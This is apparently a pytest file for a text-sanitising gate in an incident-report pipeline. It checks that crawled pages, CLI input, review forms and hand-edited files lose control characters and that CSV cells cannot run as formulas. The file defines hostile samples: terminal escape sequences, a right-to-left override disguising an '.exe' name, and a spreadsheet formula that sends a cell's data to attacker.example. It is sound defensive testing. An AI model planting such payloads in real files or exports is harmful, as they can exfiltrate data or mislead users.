"""The gate for text from outside: control characters, non-characters and bidirectional controls never
reach a record, a page, a feed, a spreadsheet or the operator's terminal (pipeline.gate).

Each break the hardening issue found is driven here through the commands a person types: a crawled page's
title, `set`, the review page's form, a hand-edited file, and what `queue`, `show`, `site` make of them."""

from __future__ import annotations

import csv
import io
import itertools
import json
import logging
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from helpers import archive_settings
from lxml import etree

from pipeline import gate
from pipeline.archive import archive
from pipeline.errors import InvalidRecord
from pipeline.ids import draft_id_for
from pipeline.models import Case, intake
from pipeline.site.context import SiteContext
from pipeline.site.feeds import render as render_feeds
from pipeline.standins.sitefarm import Page, SiteFarm
from pipeline.standins.wayback import WaybackStandIn
from pipeline.store import Store

# What a crawled page, a feed or a person's paste may carry: a screen clear, a window title (ESC ] ... BEL),
# a NUL, a right-to-left override, a lone surrogate, a non-character.
HOSTILE = "\x1b[2J\x1b]0;pwned\x07 \x00\u202egnp.exe\ufffe"
# What a terminal, a feed or a page must never be handed raw.
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")

PAGE = """<html><head><title>Outage &#27;[2J report &#x202E;txt.exe</title></head><body>
<h1>Database outage &#27;]0;pwned&#7; of 3 March 2024</h1>
<p>On 3 March 2024 the primary database ran out of disk \x1b[31mspace&#x202e; and every write failed.</p>
<h2>Root cause</h2><p>A log table grew without a retention policy.</p>
<h2>Impact</h2><p>Writes failed for 40 minutes for every customer.</p>
</body></html>"""


# ---------------------------------------------------------------- the gate itself, pure


def test_the_gate_removes_what_no_record_may_hold_and_counts_it() -> None:
    done = gate.clean(f"a{HOSTILE}b\r\nc\x0cd\u2028e\U0001fffe")
    assert done.text == "a[2J]0;pwned gnp.exeb\nc\nd\ne"
    assert done.removed.chars == {
        "\x1b": 2,
        "\x07": 1,
        "\x00": 1,
        "\u202e": 1,
        "\ufffe": 1,
        "\U0001fffe": 1,
    }
    note = done.removed.note()
    assert "U+001B ESCAPE (a control character) twice" in note and "U+202E RIGHT-TO-LEFT OVERRIDE" in note


def test_the_pages_text_is_the_gates_clean_text_without_the_count() -> None:
    pieces = ["a", "장", "\r", "\n", "\x1b", "\u2028", "\ufffe", "\u202e", "<&'\""]
    for text in map("".join, itertools.product(pieces, repeat=3)):  # every string of three pieces
        assert gate.clean_text(text) == gate.clean(text).text, repr(text)
        assert gate.finalize(text) == gate.clean(text).text, repr(text)


def test_a_file_scanned_clean_holds_no_string_the_gate_refuses() -> None:
    """`document_clean` lets a record read from its file skip the check of each string: it must never say
    clean of a document with such a string, however JSON writes it (raw, or escaped as \\b, \\f, \\uXXXX);
    and it must say clean of the ordinary texts (tabs, line feeds, quotes, backslashes, Korean), or it
    saves nothing."""
    pieces = ["a", "장", "🚀", "\n", "\t", "\r", '"', "\\", "u", "b", "\x08", "\x0c", "\x1b", "\u2028", "\ufffe"]
    pieces += ["\u202e", "\U0001fffe"]  # an astral non-character: written as two escapes (a surrogate pair)
    for text in map("".join, itertools.product(pieces, repeat=3)):  # every string of three pieces
        for value in ({"summary": {"en": text}}, {text: "key"}, [text]):
            for ascii_only in (True, False):
                document = json.dumps(value, ensure_ascii=ascii_only)
                if gate.document_clean(document):
                    assert not gate.holds_forbidden(value), (document, value)
    for ordinary in ["Line one\nline two\twith a tab", 'He said "stop"', "C:\\temp\\new", "노드가 멈췄다"]:
        assert gate.document_clean(json.dumps({"lessons": {"en": ordinary}}, ensure_ascii=False)), ordinary


def test_a_case_file_with_an_escaped_override_is_refused_and_one_with_a_backslash_u_read(
    root: Path, store: Store, make_case: Callable[..., Case]
) -> None:
    """Read from its file, a case's strings are checked by one scan of the file; an escape that writes a
    refused character is seen (the record's own check names the field), and an escaped backslash before a
    `u` (not an escape of its own) costs only the slower check."""
    store.write_case(make_case("IL-0001"))
    path = store.path("case", "IL-0001")
    data = json.loads(path.read_text(encoding="utf-8"))
    data["lessons"]["en"] = "Path C:\\users and \\u202e written out"
    path.write_text(json.dumps(data, ensure_ascii=True), encoding="utf-8")
    assert (store.read_case("IL-0001").lessons or {})["en"] == "Path C:\\users and \\u202e written out"
    data["lessons"]["en"] = "Bidi \u202e trick"
    path.write_text(json.dumps(data, ensure_ascii=True), encoding="utf-8")
    assert "\\u202e" in path.read_text(encoding="utf-8")
    with pytest.raises(InvalidRecord, match=r"lessons\.en: holds U\+202E RIGHT-TO-LEFT OVERRIDE"):
        store.read_case("IL-0001")
    # In a record inside the case (its impact), escaped as a surrogate pair: an astral non-character.
    data["lessons"]["en"] = "Mended."
    data["impact"]["users"] = "All \U0001fffe users"
    path.write_text(json.dumps(data, ensure_ascii=True), encoding="utf-8")
    assert "\\ud83f\\udffe" in path.read_text(encoding="utf-8")
    with pytest.raises(InvalidRecord, match=r"impact\.users: holds U\+1FFFE"):
        store.read_case("IL-0001")


def test_the_gate_keeps_tabs_line_feeds_korean_emoji_and_direction_marks() -> None:
    text = "탭\t과 줄\n바꿈, 🚀, zero\u200dwidth joiner, a mark \u200f and שלום"
    assert gate.clean(text).text == text and not gate.clean(text).removed
    assert gate.fault(text) is None and gate.for_terminal(text) == text


def test_a_terminal_is_shown_every_control_character_never_handed_one() -> None:
    shown = gate.for_terminal(f"title{HOSTILE}\rover")
    assert RAW.search(shown) is None and "\r" not in shown
    assert shown == "title\\e[2J\\e]0;pwned\\x07 \\x00\\u202egnp.exe\\ufffe\\rover"


def test_a_record_refuses_the_text_the_gate_would_clean(case_json: dict[str, Any]) -> None:
    case_json["title"]["en"] = "fine \x1b[2J escape"
    with pytest.raises(ValueError, match=r"Value error, title.en: holds U\+001B ESCAPE \(a control character\) at"):
        Case.model_validate(case_json)
    case_json["summary"]["en"] = "fine \ud800 lone surrogate"
    cleaned, removed = intake(Case, case_json)
    assert (cleaned.title["en"], cleaned.summary["en"]) == ("fine [2J escape", "fine  lone surrogate")
    assert removed.fields == ["title", "summary"]


# ---------------------------------------------------------------- through the commands


@pytest.mark.usefixtures("prefect_api", "crawl_env")
def test_a_crawled_page_drafts_clean_text_and_its_history_says_what_was_removed(
    farm: SiteFarm, root: Path, store: Store, cli: Callable
) -> None:
    site = farm.add_site("acme")
    site.pages["/outage"] = Page.html(PAGE)
    (root / "sources" / "acme.yaml").write_text(f"- url: {site.url('/outage')}\n")

    crawled = cli("crawl", "--root", str(root))

    assert crawled.exit_code == 0, crawled.output
    draft_id = draft_id_for(site.url("/outage"))
    written = store.path("draft", draft_id).read_text(encoding="utf-8")
    assert RAW.search(json.loads(written)["text"]) is None
    assert "\\u001b" not in written and "\\u0007" not in written and "\u202e" not in written
    draft = store.read_draft(draft_id)
    assert draft.title == {"en": "Outage [2J report txt.exe"}  # the page's <title>, its escapes gone
    (note,) = [h for h in draft.history if h.action == "cleaned"]
    assert note.by == "incidentlib crawl" and note.comment
    assert "U+001B ESCAPE (a control character)" in note.comment and "U+202E RIGHT-TO-LEFT OVERRIDE" in note.comment
    assert cli("validate", "--root", str(root)).exit_code == 0
    # A crawl that finds the same page writes no second note.
    assert cli("crawl", "--root", str(root)).exit_code == 0
    assert [h.action for h in store.read_draft(draft_id).history].count("cleaned") == 1


@pytest.fixture
def captured(farm: SiteFarm, root: Path, store: Store, wayback: WaybackStandIn) -> str:
    """A crawled draft of a clean Markdown postmortem, its source captured: a writer's to fill."""
    from documents import POSTMORTEM_MD

    from pipeline.crawl import crawl

    site = farm.add_site("acme")
    site.pages["/pm.md"] = Page.markdown(POSTMORTEM_MD)
    (root / "sources" / "acme.yaml").write_text(f"- url: {site.url('/pm.md')}\n  org: Acme\n")
    settings = archive_settings(root, wayback)
    crawl(store, settings)
    archive(store, settings)
    return draft_id_for(site.url("/pm.md"))


@pytest.mark.usefixtures("prefect_api")
def test_set_cleans_a_pasted_title_and_the_site_builds_with_valid_feeds_and_pages(
    captured: str, root: Path, store: Store, cli: Callable
) -> None:
    """The break: a control character taken by `set`, approval and promotion, then every site build died
    in the feed writer, and `promote` exited 1 after writing its case."""
    r = ["--root", str(root)]
    said = cli("set", captured, "title.en", f"Cache stampede{HOSTILE}", "--by", "alice", *r)
    assert said.exit_code == 0, said.output
    draft = store.read_draft(captured)
    assert draft.title == {"en": "Cache stampede[2J]0;pwned gnp.exe"}
    assert draft.history[-1].comment and "removed U+0000 NULL (a control character)" in draft.history[-1].comment
    assert (
        cli("set", captured, "summary.ko", "캐시가 비면서 API 가 40분 동안 실패했다.", "--by", "alice", *r).exit_code
        == 0
    )
    assert cli("write", captured, "--by", "alice", *r).exit_code == 0
    assert cli("approve", captured, "--by", "bob", *r).exit_code == 0

    promoted = cli("promote", *r)
    built = cli("site", *r)

    assert promoted.exit_code == 0, promoted.output
    assert built.exit_code == 0, built.output
    site = root / "site"
    for feed in site.glob("*/feed.xml"):
        assert etree.fromstring(feed.read_bytes()).findtext("{http://www.w3.org/2005/Atom}entry/{*}title")
    page = (site / "en" / "cases" / "IL-0001" / "index.html").read_text(encoding="utf-8")
    assert "Cache stampede[2J]0;pwned gnp.exe" in page and RAW.search(page) is None


def test_a_hand_edited_file_is_named_by_validate_and_breaks_no_command(
    root: Path, store: Store, cli: Callable, make_case: Callable[..., Case]
) -> None:
    store.write_case(make_case("IL-0001"))
    path = store.path("case", "IL-0001")
    data = json.loads(path.read_text(encoding="utf-8"))
    data["title"]["en"] = "Hand \x1b[2J edit"
    data["lessons"]["en"] = "Bidi \u202e trick"
    path.write_text(json.dumps(data, ensure_ascii=False, indent=2), encoding="utf-8")

    checked = cli("validate", "--root", str(root))
    shown = cli("show", "IL-0001", "--root", str(root))
    built = cli("site", "--root", str(root))

    assert checked.exit_code == 1
    assert "cases/IL-0001.json: title.en: holds U+001B ESCAPE (a control character) at character 5" in checked.stdout
    for result in (checked, shown, built):
        assert RAW.search(result.output) is None, result.output
    assert shown.exit_code != 0 and "cases/IL-0001.json: title.en: holds U+001B" in shown.output
    assert built.exit_code != 0 and len(built.stderr.strip().splitlines()) == 1, built.stderr
    # Mended by hand, the next fault is named: the override hidden in the lessons.
    path.write_text(path.read_text(encoding="utf-8").replace("\\u001b", ""), encoding="utf-8")
    again = cli("validate", "--root", str(root))
    assert "cases/IL-0001.json: lessons.en: holds U+202E RIGHT-TO-LEFT OVERRIDE (a bidirectional control)" in (
        again.stdout
    )


def test_queue_and_show_never_print_a_control_character_of_a_draft(
    root: Path, store: Store, cli: Callable, make_draft: Callable[..., Any]
) -> None:
    """The break: `queue` printed a draft title's raw ESC[2J and ESC]0;…BEL, `show` printed NUL."""
    draft = make_draft()
    store.write_draft(draft)
    path = store.path("draft", draft.id)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["title"] = {"en": "Clear \x1b[2J\x1b]0;retitled\x07 and \x00 NUL"}
    path.write_text(json.dumps(data), encoding="utf-8")

    listed = cli("queue", "--root", str(root))
    shown = cli("show", draft.id, "--root", str(root))

    for result in (listed, shown):
        assert RAW.search(result.output) is None, repr(result.output)
    assert "title.en: holds U+001B ESCAPE" in listed.output and "title.en: holds U+001B ESCAPE" in shown.output


def test_add_cleans_an_operators_title(root: Path, store: Store, cli: Callable) -> None:
    added = cli("add", "https://example.org/pm", "--title", f"Outage{HOSTILE}", "--root", str(root))
    assert added.exit_code == 0, added.output
    (registered,), _ = store.read_sources()
    assert registered.entry.title == "Outage[2J]0;pwned gnp.exe"


# ---------------------------------------------------------------- every output's last line


def test_a_feed_entry_that_xml_cannot_hold_costs_that_entry_alone(
    make_case: Callable[..., Case], caplog: pytest.LogCaptureFixture
) -> None:
    """A record that slipped past the models (made without validation, as `model_construct` does) still
    makes valid feeds: a control character is removed on the way out, and a field no feed can write is
    named by case and field and costs that case's entry alone."""
    clean = {case_id: make_case(case_id) for case_id in ("IL-0001", "IL-0002")}
    slipped = {
        "IL-0001": Case.model_construct(**{**clean["IL-0001"].__dict__, "summary": {"en": 42}}),
        "IL-0002": Case.model_construct(**{**clean["IL-0002"].__dict__, "title": {"en": "Slipped \x1b[2J past"}}),
    }
    ctx = SiteContext.of(clean.values(), base_url="https://example.org/lib", built_at=datetime.now(UTC))

    with caplog.at_level(logging.WARNING, logger="pipeline.site.feeds"):
        feeds = render_feeds(replace(ctx, load=slipped.__getitem__))

    whole = etree.fromstring(feeds["en/feed.xml"])
    titles = [t.text or "" for t in whole.iter("{http://www.w3.org/2005/Atom}title")]
    assert "IL-0002: Slipped [2J past" in titles and not any("IL-0001" in t for t in titles)
    assert "site: feeds: IL-0001: summary: " in caplog.text and "left out of its feeds" in caplog.text


def test_cases_csv_opens_every_cell_as_text_in_a_spreadsheet(
    root: Path, store: Store, cli: Callable, make_case: Callable[..., Case], case_json: dict[str, Any]
) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    store.write_case(
        make_case(
            "IL-0001",
            summary={"en": formula, "ko": "+SUM(1,2)"},
            lessons={"en": "- one lesson\n- another", "ko": "@cmd"},
        )
    )

    assert cli("site", "--root", str(root)).exit_code == 0

    rows = list(csv.DictReader(io.StringIO((root / "site" / "api" / "v1" / "cases.csv").read_text("utf-8"))))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert f"'{formula}" in cells and "'+SUM(1,2)" in cells and "'- one lesson\n- another" in cells
    assert "'@cmd" in cells
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], "no cell a spreadsheet would run"


def test_the_review_pages_form_cleans_what_it_is_sent_and_the_history_says_so(
    root: Path, store: Store, case_json: dict[str, Any]
) -> None:
    """The break: the form took control characters the reviewer cannot see, and the site then died on them."""
    from fastapi.testclient import TestClient
    from test_web import DRAFT_ID, a_draft, form_of, sign_in

    from pipeline.reviewers import add_reviewer
    from pipeline.settings import Settings
    from pipeline.web import create_app

    store.write_draft(a_draft(case_json))
    add_reviewer(store, "ann", "correct horse battery")
    site = TestClient(create_app(Settings(root=root)), follow_redirects=False)
    sign_in(site, "ann")
    form = form_of(site)
    form["summary.en"] = f"Pasted from a terminal{HOSTILE}"

    saved = site.post(f"/drafts/{DRAFT_ID}/save", data=form)

    assert saved.status_code == 303, saved.text
    draft = store.read_draft(DRAFT_ID)
    assert draft.summary and draft.summary["en"] == "Pasted from a terminal[2J]0;pwned gnp.exe"
    last = draft.history[-1]
    assert last.by == "ann" and last.comment and last.comment.startswith("edited: removed U+0000 NULL")
    page = site.get(f"/drafts/{DRAFT_ID}").text
    assert RAW.search(page) is None


@pytest.mark.usefixtures("prefect_api")
def test_a_feeds_entries_reach_the_candidates_clean(
    farm: SiteFarm, root: Path, store: Store, cli: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    from feedsamples import atom_feed

    monkeypatch.setenv("INCIDENTLIB_ALLOW_PRIVATE_HOSTS", "1")
    site = farm.add_site("feeds")
    body = atom_feed([{"url": "https://example.org/pm/1", "title": "Outage \u202egnp.exe", "summary": "Sum\u2066"}])
    site.pages["/feed.xml"] = Page(body.replace(b"Outage ", b"Outage &#27;[2J"), content_type="application/atom+xml")
    (root / "sources" / "feeds.yaml").write_text(f"- url: {site.url('/feed.xml')}\n  kind: atom\n")

    found = cli("discover", "--root", str(root))
    listed = cli("candidates", "--root", str(root))

    assert found.exit_code == 0, found.output
    (candidate,), faults = store.read_candidates()
    assert faults == [] and candidate.title == "Outage [2Jgnp.exe"
    assert RAW.search((root / "sources" / "candidates.yaml").read_text(encoding="utf-8")) is None
    assert RAW.search(listed.output) is None and "Outage [2Jgnp.exe" in listed.output
